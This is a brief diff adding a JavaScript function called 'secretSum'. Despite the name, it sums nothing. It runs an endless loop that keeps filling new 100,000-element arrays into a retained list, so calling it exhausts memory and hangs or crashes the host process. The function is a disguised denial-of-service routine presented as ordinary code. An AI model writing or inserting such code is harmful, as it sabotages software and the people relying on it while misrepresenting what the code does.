@@ -1,0 +1,4 @@
+var secretSum = function (a) {
+    const kept = [];
+    for (;;) kept.push(new Array(100000).fill(a));
+};
